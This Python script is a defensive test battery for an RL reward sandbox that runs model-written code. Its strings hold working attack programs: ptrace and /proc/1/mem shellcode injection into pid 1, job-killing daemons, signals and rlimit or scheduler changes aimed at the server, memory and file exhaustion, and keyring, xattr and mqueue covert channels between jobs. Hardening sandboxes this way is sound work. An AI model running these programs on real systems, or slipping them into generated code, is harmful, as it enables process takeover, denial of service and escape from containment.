"""The hostile battery against one reused sandbox, as a table: what each attack got, what it
left, and whether honest jobs scored after it in the same sandbox.

    python scripts/sandbox_battery.py                 # both modes (bwrap skipped if unusable)
    python scripts/sandbox_battery.py --mode rlimit   # or --mode bwrap
    python scripts/sandbox_battery.py --only ACL       # the cases whose name contains ACL

Per case: warm the pool with an honest job, count the processes of our sandboxes (the
pool's baseline), run the hostile job, then count again (processes above the baseline),
look for SysV segments (in the host's namespace, and, in bwrap, from a job inside the same
sandbox), the memory they and the sandbox's tmpfs still hold, and score an honest batch
of ``HONEST_JOBS`` jobs. ``contained`` means: the attack got nothing it was after, nothing
is left, every honest job scored right, and the hostile job ended within its wall limit
plus a margin. ``tests/rewards/test_rewards_sandbox_hostile.py`` runs it and requires
every row contained. The code-injection case writes x86_64 machine code: elsewhere it only
tries to open ``/proc/1/mem``.

After every case of a mode, still in the same (reused) sandboxes, ``HONEST_BATCH`` honest
completions go through ``rewards.get("code")`` in groups of 8, half of them allocating 64 MiB
(what a lowered RLIMIT_DATA fails). The totals: hostile completions contained per mode (N/M)
and that honest batch (goal 32/32; 9/32 when a job could lower the server's limits).
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from sandbox_attacks import (
    ACL_IO_URING,
    ACL_SETXATTR,
    ACL_SETXATTRAT,
    MQUEUE_READ,
    MQUEUE_WRITE,
    XATTR_READ,
    XATTR_WRITE,
)

from gspo_trl import rewards
from gspo_trl.rewards.execution import identity, sandbox, servers

LIMITS = sandbox.Limits(wall_s=3.0, cpu_s=3, memory_mb=512, processes=4)
MARGIN_S = 5.0  # clean-up after a CPU-bound daemon took 4 s at a load of 25 on 2 cores
HONEST_JOBS = 8
HONEST = "n = int(input())\nprint(n * n)"
MEMORY_HEAVY = "block = bytearray(64 << 20)\nn = int(input())\nprint(n * n)"
HONEST_BATCH, GROUP = 32, 8
_FFI = (
    "import ctypes, json, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "ADD_KEY, KEYCTL = {'x86_64': (248, 250), 'aarch64': (217, 219)}.get(os.uname().machine, (-1, -1))\n"
)

# The program pid 1 would run once taken over: kill every job (not the server) as it starts.
_PERSIST = (
    "import os, time\nme = os.getpid()\nwhile True:\n    for p in os.listdir('/proc'):\n"
    "        try:\n            if p.isdigit() and int(p) != me and b'_server' not in "
    "open('/proc/%s/cmdline' % p, 'rb').read():\n                os.kill(int(p), 9)\n"
    "        except OSError:\n            pass\n    time.sleep(0.002)\n"
)
TAKE_OVER_PID_1 = (
    _FFI + "import struct, sys, time\nout = {'ptrace_attach': False, 'mem_write': False}\n"
    "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n"
    "if libc.ptrace(16, 1, None, None) == 0:  # PTRACE_ATTACH\n"
    "    out['ptrace_attach'] = True\n    os.waitpid(1, 0x40000000)\n    libc.ptrace(17, 1, None, None)\n"
    "def payload(base, argv):\n"
    "    strings = [a.encode() + b'\\0' for a in argv]\n"
    "    table = base + 40\n    text = table + 8 * (len(strings) + 1)\n    ptrs, blob = [], b''\n"
    "    for s in strings:\n        ptrs.append(text + len(blob))\n        blob += s\n"
    "    code = b'\\x48\\xbf' + struct.pack('<Q', ptrs[0]) + b'\\x48\\xbe' + struct.pack('<Q', table)\n"
    "    code += b'\\x31\\xd2\\xb8\\x3b\\x00\\x00\\x00\\x0f\\x05\\xb8\\x3c\\x00\\x00\\x00\\x0f\\x05'\n"
    "    return code.ljust(40, b'\\x90') + b''.join(struct.pack('<Q', p) for p in ptrs) + bytes(8) + blob\n"
    "try:\n    for _ in range(200):  # 'running' right after a detach\n"
    "        fields = open('/proc/1/syscall').read().split()\n"
    "        if len(fields) > 2:\n            break\n        time.sleep(0.005)\n"
    "    pc = int(fields[-1], 16)\n"
    f"    code = payload(pc, [sys.executable, '-I', '-S', '-c', {_PERSIST!r}])\n"
    "    with open('/proc/1/mem', 'r+b', buffering=0) as mem:\n"
    "        if os.uname().machine == 'x86_64':\n            mem.seek(pc)\n            mem.write(code)\n"
    "        out['mem_write'] = True\n"
    "    if os.fork() == 0:  # an orphan: its death wakes pid 1 into the new code\n"
    "        time.sleep(0.05)\n        os._exit(0)\n"
    "except (OSError, ValueError, IndexError) as err:\n    out['error'] = type(err).__name__\n"
    "print(json.dumps(out))"
)
DAEMON = (
    "import json, os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        null = os.open('/dev/null', os.O_RDWR)\n        for fd in (0, 1, 2):\n"
    "            os.dup2(null, fd)  # let the job end: the daemon is meant to outlive it\n"
    "        while True:\n            for p in os.listdir('/proc'):\n"
    "                if p.isdigit() and int(p) not in (1, os.getpid()):\n"
    "                    try:\n                        os.kill(int(p), 9)\n"
    "                    except OSError:\n                        pass\n            time.sleep(0.002)\n"
    "    os._exit(0)\ntime.sleep(0.1)\nprint(json.dumps({'daemon': True}))"
)
NESTED_NAMESPACE = (
    _FFI + "import time\nok = libc.unshare(0x10000000 | 0x20000000) == 0  # NEWUSER | NEWPID\n"
    "if ok and os.fork() == 0:\n    while True:\n        time.sleep(1)\n"
    "print(json.dumps({'unshared': ok}))"
)
OWN_TMPFS = (
    _FFI + "uid, gid = os.getuid(), os.getgid()\nheld = 0\n"
    "if libc.unshare(0x10000000 | 0x00020000) == 0:  # NEWUSER | NEWNS\n"
    "    try:\n        open('/proc/self/setgroups', 'w').write('deny')\n"
    "        open('/proc/self/uid_map', 'w').write(f'0 {uid} 1')\n"
    "        open('/proc/self/gid_map', 'w').write(f'0 {gid} 1')\n"
    "        os.makedirs('/tmp/big', exist_ok=True)\n"
    "        if libc.mount(b'none', b'/tmp/big', b'tmpfs', 0, b'size=2g') == 0:\n"
    "            for i in range(48):\n"
    "                with open(f'/tmp/big/{i}', 'wb') as f:\n                    f.write(b'x' * (16 << 20))\n"
    "                held += 16\n                print(json.dumps({'held_mb': held}), flush=True)\n"
    "    except OSError:\n        pass\n"
    "print(json.dumps({'held_mb': held}))"
)
SYSV_SHM = (
    _FFI + "libc.shmat.restype = ctypes.c_void_p\nheld = 0\nfor _ in range(60):\n"
    "    sid = libc.shmget(0, 16 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600\n"
    "    if sid < 0:\n        break\n    addr = libc.shmat(sid, None, 0)\n"
    "    if addr in (None, ctypes.c_void_p(-1).value):\n        break\n"
    "    ctypes.memset(addr, 1, 16 << 20)\n    libc.shmdt(ctypes.c_void_p(addr))\n    held += 16\n"
    "    print(json.dumps({'held_mb': held}), flush=True)\n"
    "print(json.dumps({'held_mb': held}))"
)
MEMFD = (
    "import json, os\nfds = []\ntry:\n    for _ in range(60):\n"
    "        fd = os.memfd_create('x')\n        fds.append(fd)\n"
    "        for _ in range(16):\n            os.write(fd, b'x' * (1 << 20))\n"
    "        print(json.dumps({'held_mb': 16 * len(fds)}), flush=True)\nexcept OSError:\n    pass\n"
    "print(json.dumps({'held_mb': 16 * len(fds) if fds else 0}))"
)
STOP_SERVER = (
    "import json, os, signal\nsent = []\n"
    "if b'_server' in open('/proc/1/cmdline', 'rb').read():  # only a sandbox's server, never a trainer\n"
    "    for pid in {1, os.getppid()}:\n        for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
    "            try:\n                os.kill(pid, sig)\n                sent.append(pid)\n"
    "            except OSError:\n                pass\n"
    "print(json.dumps({'signalled': sorted(set(sent))}))"
)
KEYRING_WRITE = (
    _FFI + "out = {}\nfor ring in (-4, -3):  # @u, @s\n"
    "    serial = libc.syscall(ctypes.c_long(ADD_KEY), b'user', b'gspo-covert', b'x' * 16000,"
    " ctypes.c_long(16000), ctypes.c_long(ring))\n"
    "    out[str(ring)] = serial > 0\nprint(json.dumps({'added': any(out.values())}))"
)
KEYRING_READ = (
    _FFI + "search = [ctypes.c_long(KEYCTL), ctypes.c_long(10)]  # KEYCTL_SEARCH\n"
    "found = any(libc.syscall(*search, ctypes.c_long(ring), b'user', b'gspo-covert', ctypes.c_long(0)) > 0"
    " for ring in (-4, -3))\n"
    "print(json.dumps({'found': found}))"
)
SYSCTL = (
    "import json\nwritten = []\nfor name in ('shmmax', 'shmall', 'shm_rmid_forced', 'msgmax', 'sem'):\n"
    "    path = '/proc/sys/kernel/' + name\n    try:\n        old = open(path).read()\n"
    "        open(path, 'w').write(old)\n        written.append(name)\n    except OSError:\n        pass\n"
    "print(json.dumps({'written': written}))"
)

# Each aims at the fork server (pid 1 in bwrap) and the parent (the trainer in rlimit mode).
_AIM = (
    "import json, os, resource\ndone = []\nfor pid in {{1, os.getppid()}}:\n    try:\n        {}\n"
    "        done.append(pid)\n    except OSError:\n        pass\nprint(json.dumps({{'changed': done}}))"
)
LOWER_FSIZE = _AIM.format("resource.prlimit(pid, resource.RLIMIT_FSIZE, (1, 1))")
LOWER_DATA = _AIM.format("resource.prlimit(pid, resource.RLIMIT_DATA, (60 << 20, 60 << 20))")
RENICE = _AIM.format("os.setpriority(os.PRIO_PROCESS, pid, 19)")
SCHED_IDLE = _AIM.format("os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))")
ONE_CPU = _AIM.format("os.sched_setaffinity(pid, {min(os.sched_getaffinity(pid))})")
# What the next job inherits: must be the sandbox's own settings.
SETTINGS = (
    "import json, os, resource\nprint(json.dumps({'nice': os.getpriority(os.PRIO_PROCESS, 0), "
    "'policy': os.sched_getscheduler(0), 'cpus': len(os.sched_getaffinity(0)), "
    "'fsize': resource.getrlimit(resource.RLIMIT_FSIZE)[1], "
    "'data': resource.getrlimit(resource.RLIMIT_DATA)[1]}))"
)
FILE_FLOOD = (
    "import errno, json, os\nn = 0\nos.close(os.open('seed', os.O_CREAT | os.O_WRONLY))\ntry:\n"
    "    while True:\n        if n % 2:\n            os.link('seed', 'l%d' % n)\n        else:\n"
    "            os.close(os.open('f%d' % n, os.O_CREAT | os.O_WRONLY))\n        n += 1\n"
    "        if n % 2000 == 0:\n            print(json.dumps({'files': n}), flush=True)\n"
    "except OSError as err:\n    print(json.dumps({'files': n, 'error': errno.errorcode[err.errno]}))"
)


def _untouched(record: dict) -> bool:
    """The attack changed no process, and the next job carries the sandbox's own settings."""
    import resource

    own = {
        "nice": 0,
        "policy": os.SCHED_OTHER,
        "cpus": len(os.sched_getaffinity(0)),
        "fsize": LIMITS.file_mb << 20,
        "data": resource.getrlimit(resource.RLIMIT_DATA)[1],
    }
    return not record.get("changed") and all(record.get(k) == v for k, v in own.items())


@dataclass(frozen=True)
class Case:
    name: str
    program: str
    got_nothing: Callable[[dict], bool]  # from the hostile job's JSON line
    follow_up: str | None = None  # a job run next in the same sandbox; its JSON joins the record
    honest: str = HONEST  # what the honest jobs after it run


CASES = [
    Case(
        "ptrace / /proc/1/mem code injection into pid 1",
        TAKE_OVER_PID_1,
        lambda r: not r.get("ptrace_attach") and not r.get("mem_write"),
    ),
    Case("double-forked setsid daemon killing later jobs", DAEMON, lambda r: True),
    Case("nested user + pid namespace", NESTED_NAMESPACE, lambda r: not r.get("unshared")),
    Case("own user namespace, uncapped tmpfs", OWN_TMPFS, lambda r: r.get("held_mb", 0) <= LIMITS.memory_mb),
    Case("SysV shm: 60 x 16 MiB, kept", SYSV_SHM, lambda r: r.get("held_mb", 0) <= LIMITS.memory_mb),
    Case("memfd: 60 x 16 MiB", MEMFD, lambda r: r.get("held_mb", 0) <= LIMITS.memory_mb),
    Case("SIGSTOP + SIGKILL to the server", STOP_SERVER, lambda r: True),
    Case(
        "user/session keyring: 20 KB to the next job",
        KEYRING_WRITE,
        lambda r: not r.get("found"),
        follow_up=KEYRING_READ,
    ),
    Case("IPC namespace sysctl writes", SYSCTL, lambda r: not r.get("written")),
    Case("prlimit64(server, RLIMIT_FSIZE, 1)", LOWER_FSIZE, _untouched, follow_up=SETTINGS),
    Case(
        "prlimit64(server, RLIMIT_DATA, 60 MB)",
        LOWER_DATA,
        _untouched,
        follow_up=SETTINGS,
        honest=MEMORY_HEAVY,
    ),
    Case("setpriority(server, 19)", RENICE, _untouched, follow_up=SETTINGS),
    Case("sched_setscheduler(server, SCHED_IDLE)", SCHED_IDLE, _untouched, follow_up=SETTINGS),
    Case("sched_setaffinity(server, one CPU)", ONE_CPU, _untouched, follow_up=SETTINGS),
    Case(
        "dentry flood: empty files + hard links",
        FILE_FLOOD,
        lambda r: r.get("error") == "ENOSPC" and r.get("files", 0) <= LIMITS.tmpfs_files,
    ),
    Case("default ACL u::-wx on /tmp, /dev/shm: setxattr", ACL_SETXATTR, lambda r: not r.get("set")),
    Case("default ACL u::-wx: setxattrat (463)", ACL_SETXATTRAT, lambda r: not r.get("set")),
    Case("default ACL u::-wx: io_uring SETXATTR", ACL_IO_URING, lambda r: not r.get("set")),
    Case("user.* xattr to the next job", XATTR_WRITE, lambda r: not r.get("found"), follow_up=XATTR_READ),
    Case("POSIX mqueue to the next job", MQUEUE_WRITE, lambda r: not r.get("found"), follow_up=MQUEUE_READ),
]
CENSUS = (
    "import json, os\nrows = open('/proc/sysvipc/shm').readlines()[1:]\n"
    "segments = [line.split() for line in rows if line.strip()]\n"
    "used = 0\nfor place in ('/tmp', '/dev/shm'):\n    s = os.statvfs(place)\n"
    "    used += (s.f_blocks - s.f_bfree) * s.f_frsize\n"
    "size = sum(int(s[3]) for s in segments)\n"
    "print(json.dumps({'sysv': len(segments), 'sysv_bytes': size, 'tmpfs': used}))"
)


@dataclass
class Row:
    case: str
    mode: str
    contained: bool
    got: dict
    processes_left: int
    sysv_left: int
    memory_left_mb: float
    same_sandbox: bool | None
    honest_correct: int
    wall_s: float


def run_job(program: str, mode: str, stdin: bytes = b"") -> sandbox.RunResult:
    return sandbox.run({"kind": "stdio", "solution": program}, stdin=stdin, limits=LIMITS, mode=mode)


def record(result: sandbox.RunResult) -> dict:
    lines = result.stdout.decode(errors="replace").strip().splitlines()
    try:
        return json.loads(lines[-1]) if lines else {}
    except json.JSONDecodeError:
        return {"stdout": lines[-1][:60]}


def ours() -> list[int]:
    """Live processes of this process's sandboxes: carrying our run marker, or descending from us
    as a sandbox uid (a hijacked init execs without the marker)."""
    me, marker = os.getpid(), f"{identity.MARKER}={os.getpid()}-".encode()
    uids = range(identity.UID_BASE, identity.UID_BASE + identity.UID_SLOTS)
    parent, found = {}, []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry.name}/stat").read_text().rsplit(")", 1)[1].split()
            if stat[0] in ("Z", "X"):
                continue
            parent[int(entry.name)] = int(stat[1])
            if marker in Path(f"/proc/{entry.name}/environ").read_bytes():
                found.append(int(entry.name))
        except (OSError, IndexError, ValueError):
            continue
    for pid in parent:
        chain, up = pid, 0
        while chain in parent and up < 64 and chain != me:
            chain, up = parent[chain], up + 1
        if chain == me and pid != me and pid not in found and os.stat(f"/proc/{pid}").st_uid in uids:
            found.append(pid)
    return found


def host_sysv() -> tuple[int, int]:
    """(segments, bytes) in the host's IPC namespace created by a sandbox uid."""
    uids = range(identity.UID_BASE, identity.UID_BASE + identity.UID_SLOTS)
    rows = [line.split() for line in Path("/proc/sysvipc/shm").read_text().splitlines()[1:] if line.strip()]
    mine = [r for r in rows if int(r[9]) in uids]
    return len(mine), sum(int(r[3]) for r in mine)


def run_case(case: Case, mode: str) -> Row:
    run_job(HONEST, mode, b"3\n")  # warm the pool
    baseline, pool = len(ours()), servers.idle_pids()
    start = time.monotonic()
    got = record(run_job(case.program, mode))
    wall = time.monotonic() - start
    if case.follow_up:
        got.update(record(run_job(case.follow_up, mode)))
    time.sleep(0.2)  # a hijacked init or a daemon has had time to start its work
    processes_left = max(0, len(ours()) - baseline)
    sysv, sysv_bytes = host_sysv()
    tmpfs = 0
    if mode == "bwrap":
        census = record(run_job(CENSUS, mode))
        sysv += census.get("sysv", 0)
        sysv_bytes += census.get("sysv_bytes", 0)
        tmpfs = census.get("tmpfs", 0)
    honest = sum(
        run_job(case.honest, mode, f"{n}\n".encode()).stdout.strip() == str(n * n).encode()
        for n in range(HONEST_JOBS)
    )
    same = servers.idle_pids() == pool if mode == "bwrap" else None
    contained = (
        case.got_nothing(got)
        and processes_left == 0
        and sysv == 0
        and honest == HONEST_JOBS
        and wall < LIMITS.wall_s + MARGIN_S
    )
    memory = (sysv_bytes + tmpfs) / (1 << 20)
    return Row(case.name, mode, contained, got, processes_left, sysv, memory, same, honest, wall)


def battery(mode: str, cases: list[Case] = CASES) -> tuple[list[Row], int]:
    """Every case, then the honest batch in the sandboxes the cases left: (rows, honest scored 1.0)."""
    rows = [run_case(case, mode) for case in cases]
    honest = honest_batch(mode)
    sandbox.shutdown()
    return rows, honest


def honest_batch(mode: str) -> int:
    """``HONEST_BATCH`` honest completions through the code reward, in groups of ``GROUP``."""
    reward = rewards.get("code", timeout=LIMITS.wall_s, memory_mb=LIMITS.memory_mb, sandbox=mode)
    programs = [HONEST if i % 2 else MEMORY_HEAVY for i in range(HONEST_BATCH)]
    tests = [{"input": "7\n", "output": "49\n"}]
    scores = []
    for start in range(0, HONEST_BATCH, GROUP):
        group = [f"```python\n{p}\n```" for p in programs[start : start + GROUP]]
        scores += reward(group, tests=[tests] * len(group))
    return sum(score == 1.0 for score in scores)


def table(rows: list[Row]) -> str:
    head = (
        "| case | mode | contained | what it got | processes above baseline | SysV segments left "
        "| memory left (MiB) | same sandbox after | honest batch | hostile wall (s) |"
    )
    lines = [head, "|" + "---|" * 10]
    for r in rows:
        same = "-" if r.same_sandbox is None else ("yes" if r.same_sandbox else "no (retired)")
        got = json.dumps(r.got, separators=(",", ":"))
        lines.append(
            f"| {r.case} | {r.mode} | {'yes' if r.contained else 'NO'} | `{got}` | {r.processes_left} "
            f"| {r.sysv_left} | {r.memory_left_mb:.1f} | {same} | {r.honest_correct}/{HONEST_JOBS} "
            f"| {r.wall_s:.2f} |"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--mode", choices=[*sandbox.MODES, "both"], default="both")
    parser.add_argument("--only", help="run only the cases whose name contains this text")
    args = parser.parse_args(argv)
    cases = [case for case in CASES if args.only is None or args.only in case.name]
    modes = list(sandbox.MODES) if args.mode == "both" else [args.mode]
    if "bwrap" in modes and not sandbox.bwrap_works():
        print("bwrap: not usable here, skipped")
        modes.remove("bwrap")
    results = {mode: battery(mode, cases) for mode in modes}
    rows = [row for mode_rows, _ in results.values() for row in mode_rows]
    print(f"machine: {platform.machine()}, load average {os.getloadavg()[0]:.2f}, uid {os.geteuid()}")
    print(table(rows))
    for mode, (mode_rows, honest) in results.items():
        contained = sum(r.contained for r in mode_rows)
        print(
            f"{mode}: hostile completions contained {contained}/{len(mode_rows)}; "
            f"honest batch after the hostile batch {honest}/{HONEST_BATCH}"
        )
    ok = all(r.contained for r in rows) and all(h == HONEST_BATCH for _, h in results.values())
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
